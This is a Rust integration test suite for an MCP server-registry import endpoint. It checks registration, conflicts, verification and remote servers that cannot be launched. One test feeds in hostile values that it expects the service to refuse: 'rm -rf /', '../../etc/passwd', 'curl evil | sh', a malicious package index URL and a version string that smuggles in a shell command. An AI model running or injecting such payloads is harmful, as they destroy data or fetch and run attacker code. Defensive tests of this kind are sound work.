//! `POST /api/import` over real HTTP against the in-memory doubles: a good document is
//! registered (and verified by its generated build), a remote is verified by handshake and its
//! launch answers `not_launchable`, a refused schema version is a 422 naming it, hostile names
//! and identifiers are 422s that register nothing, and every answer conforms to the OpenAPI
//! document.

mod support;

use std::sync::Arc;

use reqwest::StatusCode;
use serde_json::{json, Value};
use support::{assert_error, Served};
use toolshed_core::services::{Ports, Toolshed, ToolshedConfig};
use toolshed_core::testing::ManualClock;

const SCHEMA: &str = "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json";

async fn served() -> Served {
    let doubles = Ports::in_memory(Arc::new(ManualClock::fixed()));
    let toolshed = Toolshed::new(
        doubles.ports(),
        ToolshedConfig {
            worker_id: "api-import".to_owned(),
            ..ToolshedConfig::default()
        },
    )
    .unwrap();
    Served::start(toolshed).await
}

fn time_server() -> Value {
    json!({
        "$schema": SCHEMA,
        "name": "io.github.example/time",
        "description": "Time and time zone conversions",
        "version": "2026.10.19",
        "repository": {"url": "https://github.com/modelcontextprotocol/servers", "source": "github", "subfolder": "src/time"},
        "packages": [{
            "registryType": "pypi", "identifier": "mcp-server-time", "version": "2026.10.19",
            "transport": {"type": "stdio"},
            "runtimeArguments": [{"type": "named", "name": "--rm"}],
            "environmentVariables": [{"name": "LOCAL_TIMEZONE", "description": "IANA zone", "default": "UTC"}]
        }]
    })
}

#[tokio::test]
async fn a_server_json_is_imported_and_verified_like_a_registration() {
    let api = served().await;
    let (status, body) = api.post("/api/import", time_server()).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let server = &body["server"];
    assert_eq!(server["id"], "time");
    assert_eq!(server["state"], "unverified");
    assert_eq!(
        server["repo"],
        "https://github.com/modelcontextprotocol/servers"
    );
    assert_eq!(
        server["origin"],
        json!({"kind": "imported", "registry_name": "io.github.example/time",
               "source": {"kind": "pypi", "package": "mcp-server-time", "version": "2026.10.19"}})
    );
    assert_eq!(
        server["transport"],
        json!({"kind": "stdio", "command": ["mcp-server-time"]})
    );
    assert!(
        body["notes"][0]
            .as_str()
            .unwrap()
            .contains("runtimeArguments"),
        "{body}"
    );

    // The same id again: 409, like a registration. Another id: a second server.
    let (status, body) = api.post("/api/import", time_server()).await;
    assert_error(status, &body, 409, "already_exists");
    let (status, body) = api.post("/api/import?id=time-2", time_server()).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["server"]["id"], "time-2");

    // Verified by its generated build, through the usual route.
    let (status, body) = api.post("/api/servers/time/reverify", json!({})).await;
    assert_eq!(status, StatusCode::ACCEPTED, "{body}");
    let url = body["status_url"].as_str().unwrap().to_owned();
    let run = api
        .settled_verification(&url, std::time::Duration::from_secs(5))
        .await;
    assert_eq!(run["state"], "verified", "{run}");
    let (_, body) = api.get("/api/servers/time").await;
    assert_eq!(body["server"]["origin"]["source"]["kind"], "pypi");
}

#[tokio::test]
async fn refused_documents_are_422s_that_register_nothing() {
    let api = served().await;
    let mut old = time_server();
    old["$schema"] =
        json!("https://static.modelcontextprotocol.io/schemas/2025-07-09/server.schema.json");
    let (status, body) = api.post("/api/import", old).await;
    let details = assert_error(status, &body, 422, "invalid_input");
    assert_eq!(details["field"], "server_json", "{body}");
    assert!(
        body["message"].as_str().unwrap().contains("2025-07-09"),
        "the refused version is named: {body}"
    );

    let hostile = [
        ("name", json!("io.github.x/evil\"; rm -rf /")),
        ("name", json!("../../etc/passwd")),
        ("version", json!("^1.0")),
    ];
    for (field, value) in hostile {
        let mut doc = time_server();
        doc[field] = value;
        let (status, body) = api.post("/api/import", doc).await;
        assert_error(status, &body, 422, "invalid_input");
    }
    for (identifier, version) in [
        ("mcp-server-time; curl evil | sh", "1.0.0"),
        ("--index-url=https://evil.example", "1.0.0"),
        ("mcp-server-time", "1.0' && id '"),
    ] {
        let mut doc = time_server();
        doc["packages"][0]["identifier"] = json!(identifier);
        doc["packages"][0]["version"] = json!(version);
        let (status, body) = api.post("/api/import", doc).await;
        assert_error(status, &body, 422, "invalid_input");
        assert!(
            !body["message"].as_str().unwrap().contains('\n'),
            "echoed values are escaped: {body}"
        );
    }
    let mut doc = time_server();
    doc["packages"][0]["registryBaseUrl"] = json!("https://pypi.evil.example");
    let (status, body) = api.post("/api/import", doc).await;
    assert_error(status, &body, 422, "invalid_input");

    // A hostile id or a package index out of range.
    let (status, body) = api.post("/api/import?id=Bad_Id", time_server()).await;
    assert!(
        status == StatusCode::BAD_REQUEST || status == StatusCode::UNPROCESSABLE_ENTITY,
        "{status} {body}"
    );
    let (status, body) = api.post("/api/import?package=7", time_server()).await;
    assert_error(status, &body, 422, "invalid_input");
    // Not an object.
    let (status, body) = api.post("/api/import", json!(["x"])).await;
    assert_error(status, &body, 422, "invalid_input");

    let (_, body) = api.get("/api/servers").await;
    assert_eq!(body["servers"], json!([]), "nothing registered");
}

#[tokio::test]
async fn the_route_is_documented() {
    let api = served().await;
    let (_, doc) = api.get("/openapi.json").await;
    let op = &doc["paths"]["/api/import"]["post"];
    assert!(op.is_object(), "documented");
    for status in ["201", "409", "422"] {
        assert!(op["responses"][status].is_object(), "{status} documented");
    }
    assert!(op["responses"]["201"]["links"]["GetServer"].is_object());
}

#[tokio::test]
async fn a_remote_is_imported_verified_by_handshake_and_never_launched() {
    let api = served().await;
    let remote = json!({
        "$schema": SCHEMA,
        "name": "io.github.example/weather",
        "description": "Weather, run by its publisher",
        "version": "2.0.0",
        "remotes": [
            {"type": "streamable-http", "url": "https://eu.weather.example/mcp"},
            {
                "type": "streamable-http",
                "url": "https://mcp.weather.example/mcp",
                "headers": [{"name": "X-Api-Key", "isSecret": true}]
            }
        ]
    });
    // One entry at a time: a package and a remote together are refused, an absent remote too;
    // the second remote is asked for by its index.
    let (status, body) = api
        .post("/api/import?package=0&remote=0", remote.clone())
        .await;
    assert_error(status, &body, 422, "invalid_input");
    let (status, body) = api.post("/api/import?remote=2", remote.clone()).await;
    assert_error(status, &body, 422, "invalid_input");
    let (status, body) = api.post("/api/import?remote=1", remote).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let server = &body["server"];
    assert_eq!(server["id"], "weather");
    assert_eq!(
        server["origin"],
        json!({"kind": "imported", "registry_name": "io.github.example/weather",
               "source": {"kind": "remote", "url": "https://mcp.weather.example/mcp"}})
    );
    assert_eq!(server["settings"][0]["name"], "X_API_KEY");
    assert_eq!(server["settings"][0]["secret"], true);

    let (status, body) = api.post("/api/servers/weather/reverify", json!({})).await;
    assert_eq!(status, StatusCode::ACCEPTED, "{body}");
    let url = body["status_url"].as_str().unwrap().to_owned();
    let run = api
        .settled_verification(&url, std::time::Duration::from_secs(5))
        .await;
    assert_eq!(run["state"], "verified", "{run}");
    let (_, body) = api.get("/api/servers/weather").await;
    assert_eq!(body["server"]["state"], "verified", "{body}");
    assert!(body["server"]["image"].is_null(), "no image: {body}");

    // Every launch is refused with the typed error, before anything starts.
    let (status, body) = api.post("/api/servers/weather/playground", json!({})).await;
    let details = assert_error(status, &body, 409, "not_launchable");
    assert_eq!(details["server_id"], "weather");
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("https://mcp.weather.example/mcp"),
        "the message says where it runs: {body}"
    );
}
